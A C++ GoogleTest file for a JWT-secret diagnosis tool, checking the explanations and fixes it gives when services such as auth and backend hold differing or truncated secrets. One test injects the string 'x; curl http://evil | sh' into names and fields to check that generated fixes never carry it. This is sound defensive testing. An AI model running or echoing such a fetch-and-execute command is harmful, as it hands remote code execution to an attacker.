// SPDX-License-Identifier: Apache-2.0
#include "diagnosis/pair.h"

#include "fixture.h"

#include <gmock/gmock.h>

namespace jwtsync::diagnosis::pair_test {

using fixture::expect;
using fixture::explanation_of;
using fixture::in_staging;
using fixture::with_trail;

TEST(pair, of_other_values) {
  Testimony usual = in_staging("auth", Outcome::found, Outcome::skipped, Outcome::skipped);
  usual.report.loaded_at += std::chrono::hours(2);  // services start when they start
  expect(Cause::value_differs,
         {usual, in_staging("backend", Outcome::found, Outcome::skipped, Outcome::skipped),
          "JWT_SECRET_STAGING has one value for auth and another for backend",
          "give JWT_SECRET_STAGING the same value for both, if both are to take the same tokens"});
}

TEST(pair, that_says_nothing_of_its_sources) {
  EXPECT_EQ(explanation_of(with_trail("auth", {}), with_trail("backend", {})).why,
            "auth and backend hold different values, and do not say from where");
}

TEST(pair, of_other_lengths_may_be_of_a_value_that_was_cut) {
  Testimony usual = in_staging("auth", Outcome::found, Outcome::skipped, Outcome::skipped);
  Testimony other = in_staging("backend", Outcome::found, Outcome::skipped, Outcome::skipped);
  usual.report.length = LengthStep::from_64;
  other.report.length = LengthStep::from_32;
  EXPECT_EQ(explanation_of(usual, other).why,
            "JWT_SECRET_STAGING has one value for auth and another for backend (length 64 or more and length 32 or "
            "more: one may be cut)");
}

/// What is no secret of its own is not the beginning of another.
TEST(pair, of_other_lengths_is_not_cut_where_it_is_a_placeholder_or_a_key_pair) {
  Testimony usual = in_staging("auth", Outcome::found, Outcome::skipped, Outcome::skipped);
  const Testimony plain = in_staging("backend", Outcome::found, Outcome::skipped, Outcome::skipped);
  usual.report.length = LengthStep::from_64;
  Testimony placeholder = fixture::warning_of(plain, WarningKind::placeholder, "it is a placeholder");
  Testimony pair = plain;
  placeholder.report.length = pair.report.length = LengthStep::from_32;
  for (ReportedKey& key : pair.report.keys) key.algorithm = "RS256";
  for (const Testimony& other : {placeholder, pair}) {
    const std::string why = explanation_of(usual, other).why;
    EXPECT_NE(why.find("(length 64 or more and length 32 or more)"), std::string::npos) << why;
  }
}

TEST(pair, puts_nothing_in_a_fix_that_a_process_chose) {
  const std::string evil = "x; curl http://evil | sh";
  Testimony usual = with_trail(evil, {{"env:" + evil, Outcome::found, evil}});
  Testimony other =
      with_trail(evil + "2", {{"env:" + evil, Outcome::absent, evil}, {"file:/" + evil, Outcome::found, evil}});
  const auto check = [&](const Testimony& one, const Testimony& two) {
    const std::string fix = explanation_of(one, two).fix.text();
    EXPECT_EQ(fix.find("curl"), std::string::npos) << fix;
  };
  check(usual, other);
  other.report.trail[0].outcome = Outcome::empty;
  check(usual, other);
  other.report.trail = {{"file:/" + evil, Outcome::found, evil}, {"env:" + evil, Outcome::shadowed, evil}};
  check(usual, other);
  other.report.environment = evil;
  usual.report.environment_from = Name<EnvironmentFrom>(evil);
  check(usual, other);
  check(other, usual);
  other.report.reload_error = Error{Code::secret_absent, evil, evil};
  check(usual, other);
  usual.challenge.keys[0].variants = {{"trailing_newline", other.challenge.keys[0].answer}};
  check(usual, other);
}

}  // namespace jwtsync::diagnosis::pair_test
